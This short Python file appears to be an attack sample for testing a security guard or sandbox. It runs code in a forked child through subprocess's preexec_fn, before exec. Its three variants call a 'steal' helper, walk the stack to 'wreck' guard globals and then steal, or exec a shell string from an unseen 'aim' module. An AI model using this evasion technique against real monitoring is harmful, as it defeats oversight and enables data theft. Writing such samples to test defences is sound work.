"""Have subprocess call a function between fork and start, in a child that is not a program yet."""

import subprocess
import sys

import aim


def walked():
    """Wreck what the frames below lead to, and then steal."""
    frame = sys._getframe()
    while frame is not None:
        if aim.is_guards(frame.f_globals):
            aim.wreck(frame.f_globals)
        frame = frame.f_back
    aim.steal()


def run():
    import os

    os.execv("/bin/sh", ["/bin/sh", "-c", aim.SHELL])


WAYS = {"steal": aim.steal_and_tell, "walk": walked, "exec": run}
subprocess.run(["/usr/bin/gcc", "--version"], preexec_fn=WAYS[aim.VARIANT])
